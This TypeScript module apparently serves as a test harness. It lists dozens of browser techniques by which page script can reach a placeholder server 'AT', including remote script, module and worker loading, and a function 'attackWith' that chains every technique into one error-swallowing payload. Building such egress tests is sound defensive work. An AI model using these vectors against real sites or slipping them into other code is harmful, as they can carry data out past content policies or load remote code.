/**
 * Ways in which a page can reach a server: a name, and a program that tries it. `AT` stands for the host
 * and port of the server. Those marked `leaves` take the page away where nothing stops them.
 */
export type Vector = { readonly name: string; readonly code: string; readonly leaves?: true };

const make = (tag: string, rest: string) =>
  `const e = document.createElement('${tag}'); ${rest}; document.body.append(e);`;
const link = (rel: string, path: string, more = '') =>
  `const e = document.createElement('link'); e.rel = '${rel}'; ${more} e.href = 'http://AT/${path}'; document.head.append(e);`;
const style = (rule: string) =>
  `const e = document.createElement('div'); e.textContent = 'x'; document.body.append(e); e.style.cssText = "${rule}";`;
const svg = (tag: string, attribute: string, path: string) =>
  `const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
   const e = document.createElementNS('http://www.w3.org/2000/svg', '${tag}');
   e.setAttribute('${attribute}', 'http://AT/${path}'); s.append(e); document.body.append(s);`;

export const vectors: readonly Vector[] = [
  { name: 'fetch', code: `return fetch('http://AT/fetch');` },
  { name: 'fetch without CORS', code: `return fetch('http://AT/no-cors', { mode: 'no-cors' });` },
  {
    name: 'fetch that outlives the page',
    code: `return fetch('http://AT/alive', { keepalive: true, method: 'POST', body: 'x' });`,
  },
  { name: 'beacon', code: `navigator.sendBeacon('http://AT/beacon', 'x');` },
  { name: 'web socket', code: `new WebSocket('ws://AT/socket');` },
  { name: 'event source', code: `new EventSource('http://AT/events');` },
  {
    name: 'request',
    code: `const x = new XMLHttpRequest(); x.open('GET', 'http://AT/xhr'); x.send();`,
  },
  {
    name: 'request that blocks',
    code: `const x = new XMLHttpRequest(); x.open('GET', 'http://AT/sync', false); x.send();`,
  },
  { name: 'web transport', code: `new WebTransport('https://AT/transport');` },
  { name: 'image', code: `new Image().src = 'http://AT/image';` },
  { name: 'image by source set', code: make('img', `e.srcset = 'http://AT/srcset 1x'`) },
  {
    name: 'picture',
    code: `const p = document.createElement('picture'); const s = document.createElement('source'); s.srcset = 'http://AT/picture'; p.append(s, new Image()); document.body.append(p);`,
  },
  { name: 'input image', code: make('input', `e.type = 'image'; e.src = 'http://AT/input'`) },
  { name: 'svg image', code: svg('image', 'href', 'svg-image') },
  { name: 'svg use', code: svg('use', 'href', 'svg-use#x') },
  { name: 'svg filter image', code: svg('feImage', 'href', 'svg-filter') },
  { name: 'video', code: make('video', `e.src = 'http://AT/video'; e.load()`) },
  { name: 'video poster', code: make('video', `e.poster = 'http://AT/poster'`) },
  { name: 'audio', code: make('audio', `e.src = 'http://AT/audio'; e.load()`) },
  { name: 'object', code: make('object', `e.data = 'http://AT/object'`) },
  { name: 'embed', code: make('embed', `e.src = 'http://AT/embed'`) },
  { name: 'frame', code: make('iframe', `e.src = 'http://AT/frame'`) },
  {
    name: 'frame with a page inside',
    code: make('iframe', `e.srcdoc = '<img src=http://AT/srcdoc>'`),
  },
  { name: 'script', code: make('script', `e.src = 'http://AT/script.js'`) },
  {
    name: 'module script',
    code: make('script', `e.type = 'module'; e.src = 'http://AT/module.js'`),
  },
  { name: 'import', code: `return import('http://AT/import.js');` },
  { name: 'worker', code: `new Worker('http://AT/worker.js');` },
  { name: 'shared worker', code: `new SharedWorker('http://AT/shared.js');` },
  {
    name: 'worker that fetches scripts',
    code: `new Worker(URL.createObjectURL(new Blob(["importScripts('http://AT/inside.js')"], { type: 'text/javascript' })));`,
  },
  {
    name: 'worker that fetches',
    code: `new Worker(URL.createObjectURL(new Blob(["fetch('http://AT/in-worker', { mode: 'no-cors' })"], { type: 'text/javascript' })));`,
  },
  {
    name: 'service worker',
    code: `return navigator.serviceWorker.register('http://AT/service.js');`,
  },
  { name: 'style sheet', code: link('stylesheet', 'style') },
  { name: 'prefetch', code: link('prefetch', 'prefetch') },
  { name: 'preload of an image', code: link('preload', 'preload', `e.as = 'image';`) },
  { name: 'preload of a module', code: link('modulepreload', 'modulepreload') },
  { name: 'icon', code: link('icon', 'icon') },
  { name: 'manifest', code: link('manifest', 'manifest') },
  { name: 'connecting ahead', code: link('preconnect', '') },
  { name: 'background', code: style('background-image: url(http://AT/background)') },
  { name: 'border image', code: style('border: 9px solid; border-image: url(http://AT/border) 1') },
  { name: 'list mark', code: style('display: list-item; list-style-image: url(http://AT/mark)') },
  { name: 'mask', code: style('mask-image: url(http://AT/mask)') },
  { name: 'pointer', code: style('cursor: url(http://AT/cursor), auto') },
  {
    name: 'imported style',
    code: `const e = document.createElement('style'); e.textContent = '@import url(http://AT/at-import)'; document.head.append(e);`,
  },
  {
    name: 'face',
    code: `return new FontFace('x', 'url(http://AT/font)').load();`,
  },
  {
    name: 'HTML string',
    code: `const e = document.createElement('div'); e.innerHTML = '<img src="http://AT/inner">'; document.body.append(e);`,
  },
  {
    name: 'rules for speculation',
    code: make(
      'script',
      `e.type = 'speculationrules'; e.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://AT/speculation'] }] })`,
    ),
  },
  {
    name: 'download',
    code: make('a', `e.href = 'http://AT/download'; e.download = 'x'; setTimeout(() => e.click())`),
  },
  {
    name: 'ping of a link',
    code: make(
      'a',
      `e.href = '#here'; e.setAttribute('ping', 'http://AT/ping'); setTimeout(() => e.click())`,
    ),
  },
  { name: 'window', code: `window.open('http://AT/window');` },
  {
    name: 'link to a new window',
    code: make('a', `e.href = 'http://AT/blank'; e.target = '_blank'; setTimeout(() => e.click())`),
  },
  {
    name: 'form into a frame',
    code: `const f = document.createElement('iframe'); f.name = 'into'; document.body.append(f); const e = document.createElement('form'); e.action = 'http://AT/form-frame'; e.target = 'into'; document.body.append(e); e.submit();`,
  },
  {
    name: 'form',
    leaves: true,
    code: make(
      'form',
      `e.action = 'http://AT/form'; e.method = 'post'; setTimeout(() => e.submit())`,
    ),
  },
  {
    name: 'refresh',
    leaves: true,
    code: `const e = document.createElement('meta'); e.httpEquiv = 'refresh'; e.content = '0;url=http://AT/refresh'; document.head.append(e);`,
  },
  { name: 'location', leaves: true, code: `location.href = 'http://AT/location';` },
  {
    name: 'navigation',
    leaves: true,
    code: `navigation.navigate('http://AT/navigation');`,
  },
];

/** One program that tries them all, one after the other, and never throws. */
export function attackWith(chosen: readonly Vector[], at: string): string {
  const tries = chosen.map(({ code }) => `() => { ${code.replaceAll('AT', at)} }`);
  return `(async () => {
    for (const attempt of [${tries.join(',\n')}]) {
      try { await Promise.race([attempt(), new Promise((resolve) => setTimeout(resolve, 100))]); } catch {}
      await new Promise((resolve) => setTimeout(resolve, 30));
    }
    await new Promise((resolve) => setTimeout(resolve, 1000));
  })()`;
}
